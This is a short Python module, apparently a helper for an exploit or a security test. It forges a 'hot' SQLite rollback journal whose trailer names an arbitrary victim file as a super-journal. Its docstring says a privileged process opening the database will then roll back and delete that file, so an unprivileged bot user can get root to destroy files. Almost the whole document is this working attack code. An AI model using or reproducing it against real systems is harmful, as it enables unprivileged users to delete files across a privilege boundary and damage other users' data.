"""What whoever is the user of the bot can put into the state directory, for root to stumble over."""

from __future__ import annotations


def plant_hot_journal(database: str, victim: str) -> None:
    """Leave a transaction that was cut short, and whose journal names a file that tells of several databases.

    SQLite puts such a transaction back when it opens the database, and then deletes that file.

    Args:
        database: the file of an SQLite database.
        victim: what is to be deleted.
    """
    import pathlib
    import sqlite3

    opened = sqlite3.connect(database)
    opened.execute("PRAGMA journal_mode=DELETE")
    opened.close()
    file, name, magic = pathlib.Path(database), victim.encode(), bytes.fromhex("d9d505f920a163d7")
    pages = file.stat().st_size // 4096
    # https://sqlite.org/fileformat2.html#the_rollback_journal; behind it the name, as pager.c writes it.
    header = b"".join((magic, *(number.to_bytes(4, "big") for number in (0, 0, pages, 512, 4096))))
    end = ((2**30 // 4096 + 1).to_bytes(4, "big"), name, len(name).to_bytes(4, "big"))
    checksum = (sum(name) % 2**32).to_bytes(4, "big")
    journal = file.with_name(file.name + "-journal")
    journal.write_bytes(b"".join((header.ljust(512, b"\0"), *end, checksum, magic)))
